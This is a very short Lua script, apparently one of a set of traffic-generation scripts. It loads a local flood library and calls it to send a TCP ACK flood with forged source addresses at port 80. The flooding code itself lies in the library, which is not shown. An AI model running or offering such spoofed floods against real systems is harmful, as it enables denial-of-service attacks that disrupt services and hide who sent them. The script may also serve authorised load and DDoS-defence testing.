-- Bare ACK from forged addresses.
local here = debug.getinfo(1, "S").source:match("^@(.*/)") or "./"
local flood = dofile(here .. "lib/flood.lua")

flood.random({ title = "ACK flood", protocol = "tcp", flags = "A", sources = "forged", dport = 80 })
